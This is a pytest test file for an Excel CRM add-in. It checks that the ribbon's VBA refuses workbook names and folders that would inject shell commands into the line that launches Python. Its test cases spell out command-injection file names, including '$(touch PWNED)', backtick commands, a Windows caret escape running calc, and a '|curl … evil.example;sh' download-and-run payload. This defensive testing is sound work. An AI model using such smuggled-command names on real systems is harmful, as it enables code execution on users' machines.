"""What the ribbon's VBA refuses before Python starts, run here: its string functions are read for a Mac and for
Windows (#If Mac) and carried out by a small interpreter of the VBA they use. A workbook whose name or folder
the command line that starts Python would act on is refused in CrmReady, which every button goes through; Log
contact on one of xlcrm's own sheets is refused before its two questions."""

from __future__ import annotations

import json
import re
import string
import subprocess
import sys
from pathlib import Path

import pytest

from test_platform_vba import MAC, WINDOWS, calls, compiled, procedure
from xlcrm import ribbon
from xlcrm.core.sheets import SHEETS
from xlcrm.workbook import build as builder
from xlcrm.workbook import install as installer

CODE = (Path(builder.__file__).parents[1] / "macros" / "xlcrm_ribbon.bas").read_text(encoding="utf-8")
MAC_NAME = "/Users/wang/Downloads/报价$(touch PWNED).xlsx"  # the tester's: any click ran `touch PWNED`


# --- a small interpreter of the VBA these functions are written in -------------------------------------------

TOKEN = re.compile(r'\s*(?:("(?:[^"]|"")*")|(\d+)|([A-Za-z_]\w*\$?)|(<>|<=|>=|[&=<>(),+-]))')
KEYWORDS = {"And": " and ", "Or": " or ", "Not": " not ", "True": "True", "False": "False"}
OPERATORS = {"&": "+", "=": "==", "<>": "!="}
BUILTINS = {
    "InStr": lambda text, part: text.find(part) + 1,
    "Mid$": lambda text, start, length: text[start - 1:start - 1 + length],
    "Len": len, "LTrim$": lambda text: text.lstrip(" "), "LCase$": str.lower, "Split": lambda text, at: text.split(at),
    "CStr": str, "U": lambda text: re.sub(r"\\u([0-9A-F]{4})", lambda m: chr(int(m.group(1), 16)), text),
}


def python_expression(vba: str) -> str:
    """A VBA expression as Python: string literals, numbers, names, calls and the operators above."""
    out, at = [], 0
    while at < len(vba.rstrip()):
        token = TOKEN.match(vba, at)
        assert token and token.end() > at, vba[at:]
        literal, number, name, operator = token.groups()
        if literal:
            out.append(repr(literal[1:-1].replace('""', '"')))
        elif number:
            out.append(number)
        elif name:
            out.append(KEYWORDS.get(name, f"_[{name!r}]"))
        else:
            out.append(OPERATORS.get(operator, operator))
        at = token.end()
    return "".join(out)


def constants(code: str) -> dict[str, object]:
    joined = re.sub(r" _\n\s*", " ", code.replace("\r\n", "\n"))
    return {name: eval(python_expression(value), {}, {"_": BUILTINS})
            for name, value in re.findall(r"^Private Const (\w+) As String = (.+)$", joined, re.MULTILINE)}


def run(code: str, function: str, *arguments: object) -> object:
    """Function of code called with arguments: its statements (Dim, =, For ... To, For Each, single-line If,
    Next) carried out as VBA does, with the module's constants."""
    body = procedure(re.sub(r" _\n\s*", " ", code), function).split("\n")
    header = re.match(rf".*Function {function}\((.*)\) As (\w+)$", body[0])
    assert header, body[0]
    names = [re.search(r"(\w+) As \w+", p).group(1) for p in header.group(1).split(",") if p.strip()]
    empty = {"String": "", "Boolean": False, "Long": 0, "Variant": None}
    variables = {**BUILTINS, **constants(code), **dict(zip(names, arguments)), function: empty[header.group(2)]}
    python, depth = [], 1
    for line in body[1:-1]:
        statement = line.split(" '", 1)[0].strip()
        if not statement or statement.startswith("'"):
            continue
        if statement.startswith("Dim "):
            for name, kind in re.findall(r"(\w+) As (\w+)", statement):
                variables[name] = empty[kind]
        elif match := re.fullmatch(r"For (\w+) = (.+) To (.+)", statement):
            python.append("  " * depth + f"for _[{match[1]!r}] in range({python_expression(match[2])}, "
                                         f"{python_expression(match[3])} + 1):")
            depth += 1
        elif match := re.fullmatch(r"For Each (\w+) In (.+)", statement):
            python.append("  " * depth + f"for _[{match[1]!r}] in {python_expression(match[2])}:")
            depth += 1
        elif re.fullmatch(r"Next \w+", statement):
            depth -= 1
        elif match := re.fullmatch(r"If (.+) Then (\w+) = (.+)", statement):
            python.append("  " * depth + f"if {python_expression(match[1])}: _[{match[2]!r}] = "
                                         f"{python_expression(match[3])}")
        elif match := re.fullmatch(r"(\w+) = (.+)", statement):
            python.append("  " * depth + f"_[{match[1]!r}] = {python_expression(match[2])}")
        else:
            raise AssertionError(f"the interpreter does not know {statement!r}: teach it")
    exec("def body(_):\n  pass\n" + "\n".join(python), {}, scope := {})
    scope["body"](variables)
    return variables[function]


def unsafe_on(platform: dict[str, bool], path: str) -> str:
    return run(compiled(CODE, **platform), "CrmUnsafeChars", path)


# --- the workbook's name and folder ---------------------------------------------------------------------------

def statements(code: str, name: str) -> list[str]:
    """The statements of a procedure, its first and last line, comments and blank lines left out."""
    lines = [line.split(" '", 1)[0].strip() for line in procedure(code, name).split("\n")[1:-1]]
    return [line for line in lines if line and not line.startswith("'")]


def top_level_branches(lines: list[str]) -> list[tuple[str, list[str]]]:
    """The branches of the first If ... ElseIf ... Else ... End If block of lines: (condition, statements); VBA runs
    the first whose condition holds."""
    branches: list[tuple[str, list[str]]] = []
    depth = 0
    for line in lines:
        opens = bool(re.fullmatch(r"If .+ Then", line))
        if depth == 1 and (re.fullmatch(r"ElseIf .+ Then", line) or line == "Else"):
            branches.append((line, []))
        elif depth == 0 and opens:
            branches.append((line, []))
            depth = 1
        elif depth == 1 and line == "End If":
            return branches
        elif depth:
            branches[-1][1].append(line)
            depth += opens - (line == "End If")
    raise AssertionError("no End If")


def test_every_way_to_python_passes_the_name_check_in_crmready():
    for platform in (MAC, WINDOWS):
        code = compiled(CODE, **platform)
        procedures = re.findall(r"^(?:Public |Private )?(?:Sub|Function) (\w+)\(", code, re.MULTILINE)
        assert [name for name in procedures if calls(procedure(code, name), "RunPython")] == ["CrmRun"]
        assert statements(code, "CrmRun")[0] == "If Not CrmReady() Then Exit Sub"
        branches = top_level_branches(statements(code, "CrmReady"))
        conditions = [condition for condition, _ in branches]
        name_check = "ElseIf CrmUnsafeChars(ActiveWorkbook.FullName & ActiveWorkbook.Name) <> \"\" Then"
        assert name_check in conditions, platform
        assert conditions.index("ElseIf ActiveWorkbook Is Nothing Then") < conditions.index(name_check)
        assert branches[conditions.index(name_check)][1] == [
            'CrmSay Replace(CrmSaid("unsafe_name"), "{chars}", CrmUnsafeChars(ActiveWorkbook.FullName & '
            'ActiveWorkbook.Name))']
        # CrmReady is True only in the last branch, after the name check: every earlier condition was False
        granted = [i for i, (_, body) in enumerate(branches) if "CrmReady = True" in body]
        assert granted == [len(branches) - 1] and conditions[-1] == "Else"
        assert conditions.index(name_check) < granted[0]


@pytest.mark.parametrize("path, refused", [
    (MAC_NAME, "$"),
    ("/Users/wang/Downloads/报价`touch PWNED`.xlsx", "`"),
    ('/Users/wang/Downloads/报价".xlsx', '"'),
    ("/Users/wang/Downloads/报价\\'.xlsx", "\\"),
    ("/Users/wang/Downloads/a|curl -so .x evil.example;sh .x #|.xlsx", "|"),
    ("/Users/wang/$work/客户`x`.xlsx", "$ `"),  # a folder counts too: the shell sees the whole path
    ("/Users/wang/Documents/客户跟踪表 (2026) Bob's & Co; 100%!.xlsx", ""),
    ("https://d.docs.live.net/1a2b/Documents/My%20CRM.xlsx", ""),
])
def test_on_a_mac_a_name_the_shell_would_act_on_is_refused(path, refused):
    assert unsafe_on(MAC, path) == refused


@pytest.mark.parametrize("path, refused", [
    ("C:\\Users\\wang\\Downloads\\报价^& calc ^&.xlsx", "^"),  # xlwings writes & as ^&: ^^& is a caret, then a real &
    ("C:\\Users\\wang\\Downloads\\报价$(calc) `x` Bob's & Co; 100%!.xlsx", ""),  # nothing to cmd.exe, or escaped
    ("https://d.docs.live.net/1a2b/Documents/My%20CRM.xlsx", ""),
])
def test_on_windows_a_caret_is_refused_and_what_cmd_does_not_act_on_passes(path, refused):
    assert unsafe_on(WINDOWS, path) == refused


def test_the_refusal_says_which_characters_and_how_to_get_rid_of_them():
    said = ribbon.PROMPTS["unsafe_name"]
    assert "{chars}" in said.en and "Save As" in said.en and "{chars}" in said.zh and "另存为" in said.zh
    assert 'Replace(CrmSaid("unsafe_name"), "{chars}", CrmUnsafeChars(' in CODE


def execute_mac_shell_line(tmp_path: Path, full_name: str) -> str:
    """The shell line xlwings' installed AppleScript runs for a click on the workbook at full_name, its
    parameters as the built ExecuteMac passes them (its PYTHONPATH with ' escaped, the Python quoted for the
    shell), with this Python standing in and the command recording what it received."""
    script = (installer._xlwings_dir() / installer._applescript()).read_text(encoding="utf-8")
    names = re.search(r"set \{(.*?)\} to SplitString\(ParameterString, \"\|\"\)", script).group(1).split(", ")
    expression = re.search(r"set ShellCommand to (.*?)\n\ttry", script.replace("¬\n", ""), re.DOTALL).group(1)
    python_path = f"false;{full_name};{tmp_path / 'xlcrm.xlam'};;;;".replace("'", "\\'") + ";"
    command = f"import json, sys; json.dump(sys.argv, open(r'{tmp_path / 'argv.json'}', 'w'))"
    parameters = "|".join([python_path, "'" + sys.executable + "'", command, full_name.rsplit("/", 1)[1],
                           "/Applications/Microsoft Excel.app", str(tmp_path / "xlwings.log")]).split("|")
    if len(parameters) != len(names):  # the script would read its parameters shifted: never the same click
        return ""
    values = dict(zip(names, parameters))
    parts = re.findall(r'"((?:\\.|[^"\\])*)"|(\w+)', expression)
    return "".join(re.sub(r"\\(.)", r"\1", literal) if literal else values[name] for literal, name in parts)


def received(tmp_path: Path, full_name: str) -> tuple[str, list[str]] | None:
    """What Python got from that shell line: the path xlwings' prepare_sys_path was given and its argv."""
    for name in ("seen.txt", "argv.json", "xlwings.log"):
        (tmp_path / name).unlink(missing_ok=True)
    line = execute_mac_shell_line(tmp_path, full_name)
    if not line:
        return None
    stand_in = tmp_path / "fake" / "xlwings"  # records its argument instead of changing sys.path
    stand_in.mkdir(parents=True, exist_ok=True)
    (stand_in / "__init__.py").write_text("")
    (stand_in / "utils.py").write_text(f"def prepare_sys_path(text):\n    open(r'{tmp_path / 'seen.txt'}', 'w', "
                                       f"encoding='utf-8').write(text)\n")
    subprocess.run(["/bin/sh", "-c", line.rstrip().rstrip("&")], cwd=tmp_path, timeout=30,
                   env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(stand_in.parent), "PYTHONIOENCODING": "utf-8"})
    if not (tmp_path / "seen.txt").exists() or not (tmp_path / "argv.json").exists():
        return None
    return (tmp_path / "seen.txt").read_text(encoding="utf-8"), json.loads((tmp_path / "argv.json").read_text())


@pytest.mark.skipif(sys.platform == "win32", reason="a POSIX shell, as `do shell script` runs on a Mac")
def test_on_a_mac_exactly_the_characters_the_shell_line_changes_are_refused(tmp_path):
    """Each printable ASCII character a file name can hold, in a name run through xlwings' real shell line: the
    ones that change what Python receives (or run something) are the ones CrmUnsafeChars refuses."""
    changed, refused = set(), set()
    for char in sorted(set(string.punctuation + " ") - {"/"}):
        name = f"报价{char}x{char}(1){char}.xlsx"
        full_name = f"{tmp_path}/Downloads/{name}"
        if received(tmp_path, full_name) != (f"false;{full_name};{tmp_path / 'xlcrm.xlam'};;;;;",
                                             ["-c", f"--wb={name}", "--from_xl=1",
                                              "--app=/Applications/Microsoft Excel.app"]):
            changed.add(char)
        if unsafe_on(MAC, full_name):
            refused.add(char)
    assert changed == refused == set('$`"\\|')


# --- Log contact on xlcrm's own sheets ------------------------------------------------------------------------

def test_log_contact_refuses_xlcrms_own_sheets_before_asking_anything():
    code = compiled(CODE, **WINDOWS)
    own = BUILTINS["U"](constants(code)["OWN_SHEETS"]).split("|")
    assert set(own) == {name for pair in SHEETS.values() for name in pair}  # core/sheets.py's, both languages
    for sheet in ("待跟进", "Due follow-ups", "due FOLLOW-ups", "CRM设置", "跟进记录"):
        assert run(code, "CrmOwnSheet", sheet) is True, sheet
    for sheet in ("客户跟踪表", "Customers", "王五"):
        assert run(code, "CrmOwnSheet", sheet) is False, sheet
    steps = [line.strip() for line in procedure(code, "CrmLogContact").split("\n")]
    refusal = steps.index("If CrmOwnSheet(sheet) Then ' said before the questions, so that no typed note is lost")
    assert steps[refusal + 1] == 'CrmSay Replace(CrmSaid("own_sheet"), "{sheet}", sheet)'
    assert steps[refusal + 2] == "Exit Sub"
    assert refusal < min(i for i, line in enumerate(steps) if "Application.InputBox" in line)
    said = ribbon.PROMPTS["own_sheet"]
    assert "{sheet}" in said.en and "Row" in said.en and "{sheet}" in said.zh and "行号" in said.zh
